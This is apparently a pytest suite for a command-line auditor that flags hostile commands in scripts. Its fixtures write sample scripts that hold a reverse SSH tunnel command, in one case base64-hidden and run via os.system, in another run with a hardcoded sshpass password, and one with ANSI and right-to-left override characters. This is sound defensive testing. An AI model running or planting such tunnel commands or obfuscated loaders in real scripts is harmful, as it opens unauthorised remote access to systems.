"""The whole command on real scripts, with the real engines: what a person sees, and what a machine reads."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import jsonschema
import pytest

from auditor.cli import main
from auditor.render.json import report_schema

TUNNEL = "ssh -N -R 2222:localhost:22 ops@203.0.113.5"
ENCODED = base64.b64encode(TUNNEL.encode()).decode()
SCRIPTS = {
    "hidden.py": f"import base64, os\n\nCMD = base64.b64decode('{ENCODED}').decode()\nos.system(CMD)\n",
    "plain.sh": f"#!/bin/sh\nset -e\nsshpass -p hunter22 {TUNNEL}\n",
    "local.sh": "#!/bin/sh\nssh -N -L 8080:localhost:80 ops@203.0.113.5\n",
    "mention.sh": f"#!/bin/sh\n# {TUNNEL}\necho '{TUNNEL}'\ngit commit -m 'forbid {TUNNEL}'\n",
    "clean.py": "print('hello')\n",
    "ansi.sh": "#!/bin/sh\n# \x1b[2J \u202e\nssh -R 1:h:2 'a\x1b[31m\u202eb'\n",
    "broken.py": "def f(:\n",
}


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Give a folder with one script of each kind."""
    monkeypatch.chdir(tmp_path)
    for name, text in SCRIPTS.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    return tmp_path


@pytest.mark.parametrize(
    ("name", "code", "verdict"),
    [
        ("hidden.py", 1, "deny"),
        ("plain.sh", 1, "deny"),
        ("local.sh", 0, "allow"),
        ("mention.sh", 0, "allow"),
        ("clean.py", 0, "allow"),
        ("ansi.sh", 1, "deny"),
        ("broken.py", 1, "review"),
    ],
)
def test_one_script_alone(tree: Path, capsys: pytest.CaptureFixture[str], name: str, code: int, verdict: str) -> None:
    """Exit code and verdict agree, and the JSON is what the schema says."""
    assert tree.is_dir()
    assert main(["check", name, "--format", "json"]) == code
    value = json.loads(capsys.readouterr().out)
    assert value["verdict"] == verdict
    assert value["script"]["path"] == name
    jsonschema.Draft202012Validator(json.loads(report_schema())).validate(value)


def test_a_hidden_command_is_shown_with_the_way_to_it(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The line of the script, the effect, the trail through the layers, and what to do instead."""
    assert tree.is_dir()
    assert main(["check", "hidden.py"]) == 1
    out = capsys.readouterr().out
    assert out.startswith("DENY   hidden.py\n")
    assert "4 │ os.system(CMD)" in out
    assert f"effect   {TUNNEL}" in out
    trail = next(line for line in out.splitlines() if line.strip().startswith("trail"))
    assert "hidden.py:4 os.system" in trail
    assert "instead" in out


def test_a_folder_gives_every_script_in_order(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The same verdicts as one by one."""
    assert tree.is_dir()
    assert main(["check", ".", "--format", "jsonl"]) == 1
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(line["script"]["path"], line["verdict"]) for line in lines] == [
        ("./ansi.sh", "deny"),
        ("./broken.py", "review"),
        ("./clean.py", "allow"),
        ("./hidden.py", "deny"),
        ("./local.sh", "allow"),
        ("./mention.sh", "allow"),
        ("./plain.sh", "deny"),
    ]


@pytest.mark.parametrize("format_name", ["text", "json", "jsonl", "sarif"])
def test_nothing_hostile_and_no_secret_comes_out(
    tree: Path, capsys: pytest.CaptureFixture[str], format_name: str
) -> None:
    """In any format."""
    assert tree.is_dir()
    main(["check", "ansi.sh", "plain.sh", "--format", format_name])
    out = capsys.readouterr().out
    assert "ssh-reverse-forward" in out
    assert not {"\x1b", "\u202e"} & set(out)
    assert "hunter22" not in out


def test_a_grant_for_the_connection_does_not_grant_the_tunnel(tree: Path) -> None:
    """And the grant for the tunnel does."""
    for effect, code in (("ssh ops@203.0.113.5", 1), ("ssh -N -R 2222:localhost:22 ops@203.0.113.5", 0)):
        grant = f"{{rule: ssh-reverse-forward, effect: '{effect}', reason: ticket 7, expires: 2999-01-01}}"
        (tree / "p.yaml").write_text(
            "version: 1\noutcomes: [{family: [hiding, code-quality], outcome: allow}]\n" + f"grants: [{grant}]\n",
            encoding="utf-8",
        )
        assert main(["check", "hidden.py", "--policy", "p.yaml"]) == code


def test_effects_shows_units_and_transcript(tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Without a judgement, so with exit code 0."""
    assert tree.is_dir()
    assert main(["effects", "hidden.py"]) == 0
    out = capsys.readouterr().out
    assert "└─ 1 bash  os.system" in out
    assert TUNNEL in out


def test_rules_can_be_listed_and_shown(capsys: pytest.CaptureFixture[str]) -> None:
    """As text and as JSON; an unknown id is a usage error with what is near."""
    assert main(["rules", "list", "--format", "json"]) == 0
    cards = json.loads(capsys.readouterr().out)
    assert len(cards) > 40
    assert main(["rules", "list", "--family", "reverse-tunnel"]) == 0
    out = capsys.readouterr().out
    assert "deny   critical ssh-reverse-forward" in out
    assert "miner" not in out
    assert main(["rules", "show", "ssh-reverse-forward"]) == 0
    out = capsys.readouterr().out
    assert "verdict   deny" in out
    assert "https://man.openbsd.org/ssh" in out
    assert main(["rules", "show", "reverse-forward"]) == 2
    assert "near: " in capsys.readouterr().err
    assert main(["rules", "list", "--family", "nonsense"]) == 2


def test_rules_check_says_what_is_wrong(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One line for each problem, and exit code 1; the rules that ship have none."""
    assert main(["rules", "check"]) == 0
    assert "in form" in capsys.readouterr().out
    (tmp_path / "miner").mkdir()
    (tmp_path / "miner" / "bad-rule.yaml").write_text("rules: []\n", encoding="utf-8")
    assert main(["rules", "check", "--rulesets", str(tmp_path)]) == 1
    assert "bad-rule.yaml" in capsys.readouterr().out
    assert main(["rules", "test", "--rulesets", str(tmp_path / "missing")]) == 2
